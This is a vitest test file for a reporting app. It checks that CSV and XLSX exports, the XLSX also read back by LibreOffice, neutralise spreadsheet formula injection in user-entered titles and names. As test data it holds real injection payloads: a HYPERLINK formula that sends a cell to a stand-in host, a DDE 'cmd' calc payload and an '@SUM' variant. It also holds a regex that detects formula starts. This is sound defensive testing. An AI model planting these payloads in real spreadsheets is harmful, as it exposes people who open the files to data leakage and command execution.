// Report exports write names and titles typed by users (and synced from other devices) as text a
// spreadsheet will not run: hostile titles are exported to CSV and XLSX and read back, the XLSX
// also by LibreOffice. Numbers, negative ones included, stay numbers.
import { execFileSync } from 'node:child_process'
import { mkdirSync, readdirSync, readFileSync, rmSync } from 'node:fs'
import { join } from 'node:path'
import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openTestCore, REPO_ROOT } from '../testing'
import { parseCsv } from './readCsv.testkit'

const ARTIFACTS = join(REPO_ROOT, 'e2e', 'artifacts', 'report-formulas')
const INTEL_TITLE = '=HYPERLINK("http://x.example/?"&A1,"点我")'
const ORDER_TITLE = "=cmd|' /C calc'!A0"
const CUSTOMER = '@SUM(1+1)*cmd'
const GRID = '+1+2 网格'
const NOTE = '-2+3'
const HOSTILE = [INTEL_TITLE, ORDER_TITLE, CUSTOMER, GRID]
const FORMULA_START = /^[=+\-@\t\r]/

describe('report exports neutralise formulas', () => {
  const core = openTestCore()
  const now = new Date()
  const period = now.toISOString().slice(0, 7)
  const file = (name: string) => join(ARTIFACTS, name)

  beforeAll(async () => {
    rmSync(ARTIFACTS, { recursive: true, force: true })
    mkdirSync(ARTIFACTS, { recursive: true })
    await core.call('demo.load', {})
    const grid = (await core.call('orgUnits.list', {})).find((u) => u.code === '451022-G01')!
    await core.call('org.update', { id: grid.id, patch: { name: GRID } })
    const village = (await core.call('map.overview', {})).villages.features.find((f) => f.properties.gridId === grid.id)!
    await core.call('intel.create', { rival: 'telecom', kind: 'price', title: INTEL_TITLE, description: NOTE, seenAt: now.toISOString(), villageId: village.properties.id })
    const customer = await core.call('customers.create', { name: CUSTOMER, category: 'commerce', villageId: village.properties.id })
    const order = await core.call('workOrders.create', { title: ORDER_TITLE, orgUnitCode: grid.code, customerId: customer.id })
    // Overdue by now: its due time moved a day back, as an edit on another device would.
    core.ctx.db.$client.prepare('UPDATE work_orders SET due_at = ? WHERE id = ?').run(new Date(now.getTime() - 86_400_000).toISOString(), order.id)
  })
  afterAll(() => core.dispose())

  it('writes them as text in CSV, numbers as numbers', async () => {
    await core.call('reports.export', { region: '451022', period, format: 'csv', path: file('county.csv'), overwrite: true })
    const cells = parseCsv(readFileSync(file('county.csv'), 'utf8').replace(/^\uFEFF/, '')).flat()
    for (const hostile of HOSTILE) expect(cells).toContain(`'${hostile}`)
    const formulaLike = cells.filter((c) => FORMULA_START.test(c))
    // What is left starting with a formula character is a number (a negative gap), written as one.
    expect(formulaLike.every((c) => Number.isFinite(Number(c)) && Number(c) < 0)).toBe(true)
    expect(formulaLike.length).toBeGreaterThan(0)
  })

  it('writes them as text in XLSX, as exceljs and LibreOffice read it back', async () => {
    const { path } = await core.call('reports.export', { region: '451022', period, format: 'xlsx', path: file('county.xlsx'), overwrite: true })
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.readFile(path)
    const strings: string[] = []
    let negatives = 0
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.formula).toBeUndefined()
          if (typeof cell.value === 'string') strings.push(cell.value)
          if (typeof cell.value === 'number' && cell.value < 0) negatives++
        }),
      ),
    )
    for (const hostile of HOSTILE) expect(strings).toContain(`'${hostile}`)
    expect(strings.filter((s) => FORMULA_START.test(s))).toEqual([])
    expect(negatives).toBeGreaterThan(0)

    // LibreOffice: sheet 8 is the intel, sheet 13 the overdue work orders.
    const outDir = file('lo')
    mkdirSync(outDir, { recursive: true })
    for (const sheet of [8, 13])
      execFileSync('soffice', ['--headless', `-env:UserInstallation=file://${file('lo-profile')}`, '--convert-to', `csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,${sheet}`, '--outdir', outDir, path], { stdio: 'pipe', timeout: 120_000 })
    const shown = readdirSync(outDir).flatMap((name) => parseCsv(readFileSync(join(outDir, name), 'utf8')).flat())
    for (const hostile of [INTEL_TITLE, ORDER_TITLE, CUSTOMER, GRID]) expect(shown).toContain(`'${hostile}`)
    expect(shown).not.toContain('点我') // the HYPERLINK never ran
  })
})
